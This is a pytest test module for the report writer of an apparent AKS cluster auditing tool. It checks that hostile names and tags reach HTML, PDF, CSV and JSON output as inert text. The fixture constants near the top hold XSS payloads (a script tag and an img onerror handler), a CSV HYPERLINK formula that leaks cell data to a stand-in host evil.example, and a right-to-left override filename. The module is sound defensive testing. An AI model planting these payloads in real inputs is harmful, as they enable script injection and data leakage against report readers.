"""Untrusted text in every report: names, tags, subscription names and messages carrying markup, formulas,
right-to-left overrides and 10 KB strings must reach the reader as inert, visible text."""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader

from auditor.controls import load_catalog
from auditor.store import EvidenceRow, ScanRecord, open_db, write_scan
from tests.evidence import AS_OF, DEFAULT_VERSIONS, cluster, pool
from tests.library import write_reports

SUB = "00000000-0000-0000-0000-0000000000aa"
SCRIPT = "<script>alert('pwned')</script>"
IMG_TAG = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
RLO = "invoice\u202egpj.exe"
HUGE = "A" * 10_240


def _hostile_fleet() -> list[dict[str, Any]]:
    return [
        cluster(
            SCRIPT,
            sub=SUB,
            rg=IMG_TAG,
            channel=None,
            tags={"owner": FORMULA, "note": SCRIPT},
            pools=[pool("system", image="AKSUbuntu-2204gen2containerd-202601.01.0")],
        ),
        cluster(RLO, sub=SUB, rg="rg-rlo", channel="none", tags={"cost": "+1-1", "team": "@team"}),
        cluster(
            "huge",
            sub=SUB,
            rg="rg-huge",
            channel=None,
            tags={"blob": HUGE},
            pools=[pool("system", image=f"custom-{HUGE}")],
        ),
        cluster("formula", sub=SUB, rg="-rg", channel=None, tags={}),
    ]


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = tmp_path_factory.mktemp("hostile")
    db = work / "h.duckdb"
    clusters = _hostile_fleet()
    evidence = [
        EvidenceRow(
            "subscription",
            SUB,
            "GET /subscriptions",
            {
                "subscriptionId": SUB,
                "displayName": f"{FORMULA} {SCRIPT}",
                "state": "Enabled",
                "tenantId": "</td><script>x()</script>",
            },
        )
    ]
    evidence += [EvidenceRow("cluster", c["id"], "POST resources", c) for c in clusters]
    evidence.append(EvidenceRow("kubernetes_versions", "eastus", "GET kubernetesVersions", DEFAULT_VERSIONS))
    evidence += [
        EvidenceRow("maintenance_configurations", c["id"], "GET maintenanceConfigurations", {"value": []})
        for c in clusters
    ]
    record = ScanRecord(
        scan_id="20261124T060000Z-hostile",
        started_at=AS_OF,
        finished_at=AS_OF,
        tool_version="test",
        cloud="AzureCloud",
        endpoint="https://test",
        scope={},
        stats={"calls": {}},
        evidence=evidence,
    )
    con = open_db(db, create=True)
    try:
        write_scan(con, record)
    finally:
        con.close()
    policy = work / "policy.toml"
    policy.write_text('organisation = "<b>Org</b>"\nclassification = "<i>Secret</i>"\n', encoding="utf-8")
    target = work / "out"
    write_reports(db, record.scan_id, policy, ["pdf", "html", "csv", "json"], target)
    return target


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def test_html_has_no_live_markup_from_the_data(out: Path) -> None:
    html = (out / "report.html").read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(html)
    scripts = [attrs for tag, attrs in parser.tags if tag == "script"]
    assert len(scripts) == 2  # the table script and the inert JSON data block: nothing from the data
    assert not [tag for tag, _ in parser.tags if tag in ("b", "i", "iframe", "object", "embed", "svg")]
    images = [dict(attrs) for tag, attrs in parser.tags if tag == "img"]
    # Four summary charts and the maintenance calendar chart.
    assert len(images) == 5 and all(str(i["src"]).startswith("data:image/svg+xml;base64,") for i in images)
    for tag, attrs in parser.tags:
        for name, _ in attrs:
            assert not name.startswith("on"), f"event handler attribute on <{tag}>"
    # The hostile values are present, escaped, as text.
    assert "&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;" in html
    assert "&lt;b&gt;Org&lt;/b&gt;" in html
    assert "&lt;img src=x onerror=" in html
    # Disguising characters are shown, not applied; 10 KB strings are clipped in the page.
    assert "\u202e" not in html and "invoice[U+202E]gpj.exe" in html
    assert HUGE not in html and "characters; the full value is in findings.csv" in html


def test_html_data_block_cannot_close_its_script_element(out: Path) -> None:
    html = (out / "report.html").read_text(encoding="utf-8")
    block = re.search(r'<script type="application/json" id="findings-data">(.*?)</script>', html, re.S)
    assert block
    body = block.group(1)
    assert "<" not in body and ">" not in body
    data = json.loads(body)
    clusters = data["dicts"][data["columns"].index("cluster")]
    assert SCRIPT in clusters  # the JSON parser gives the reader the literal, the DOM gets it as textContent


def test_html_is_readable_everywhere_but_never_runs_data_as_markup(out: Path) -> None:
    html = (out / "report.html").read_text(encoding="utf-8")
    without_blob = re.sub(r'<script type="application/json".*?</script>', "", html, flags=re.S)
    table_script = re.search(r"<script>(.*?)</script>", without_blob, re.S)
    assert table_script
    script = table_script.group(1)
    assert "innerHTML" not in script and "insertAdjacentHTML" not in script and "eval(" not in script
    rest = without_blob.replace(table_script.group(0), "")
    assert "<script" not in rest


def test_csv_neutralises_formulas(out: Path) -> None:
    rows = list(csv.DictReader((out / "findings.csv").read_text(encoding="utf-8").splitlines()))
    assert rows
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value[:40])
    names = {r["subscription_name"] for r in rows}
    assert names == {"'" + f"{FORMULA} {SCRIPT}"}
    assert any(r["resource_group"] == "'-rg" for r in rows)
    assert any(r["cluster"] == RLO for r in rows)  # CSV keeps the data exact (apart from neutralising)
    assert any(HUGE in r["tags"] for r in rows)


def test_json_keeps_values_exact(out: Path) -> None:
    findings = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    # Subscription-level findings (AKS-WIN-04) name no cluster.
    assert {f["cluster"] for f in findings if f["cluster"]} == {SCRIPT, RLO, "huge", "formula"}
    assert any(f["tags"].get("owner") == FORMULA for f in findings)


def test_pdf_renders_and_shows_the_literal_text(out: Path) -> None:
    reader = PdfReader(out / "report.pdf")
    # A section per control and the method appendix's queries: 57 pages for 18 controls when measured.
    assert 4 <= len(reader.pages) <= 12 + 4 * len(load_catalog())
    text = "".join("".join(page.extract_text().split()) for page in reader.pages)
    assert "<script>alert('pwned')</script>" in text
    assert "<b>Org</b>" in text
    assert "invoice[U+202E]gpj.exe" in text and "\u202e" not in text
    assert "characters;thefullvalueisinfindings.csv" in text
    assert "A" * 10_240 not in text
